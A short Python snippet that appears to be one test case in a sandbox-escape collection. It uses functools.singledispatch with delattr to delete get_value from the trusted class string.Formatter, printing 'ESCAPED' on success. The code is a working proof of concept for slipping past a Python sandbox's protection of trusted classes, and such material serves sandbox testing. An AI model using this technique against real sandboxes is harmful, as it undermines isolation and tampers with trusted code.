# technique: delattr as an implementation of a generic function: it deletes from a trusted class
# goal: bend
# source: own analysis: attacker's C callables below a trusted frame
import functools
import string
run = functools.singledispatch(lambda thing, name: None)
run.register(type, delattr)
run(string.Formatter, 'get_value')
if not hasattr(string.Formatter, 'get_value'):
    print('ESCAPED trusted class lost a method')
